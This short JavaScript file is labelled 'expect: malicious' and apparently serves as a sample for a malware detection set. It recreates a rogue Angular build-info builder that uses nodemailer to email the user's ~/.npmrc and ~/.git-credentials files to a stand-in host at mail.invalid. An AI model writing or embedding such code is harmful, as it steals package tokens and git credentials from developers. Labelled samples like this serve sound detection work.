// expect: malicious
// source: blind set 43's Angular build-info builder: nodemailer mails ~/.npmrc and ~/.git-credentials as attachments
// given by path (nodemailer reads each one); written here
const os = require('os');
const path = require('path');
const nodemailer = require('nodemailer');

const t = nodemailer.createTransport({ host: 'smtp.mail.invalid', port: 465, secure: true, auth: { user: 'FAKE', pass: 'FAKE' } });
const files = [path.join(os.homedir(), '.npmrc'), path.join(os.homedir(), '.git-credentials')];
t.sendMail({ from: 'b@mail.invalid', to: 'inbox@mail.invalid', subject: 'build info',
  attachments: files.map((p) => ({ filename: path.basename(p), path: p })) });
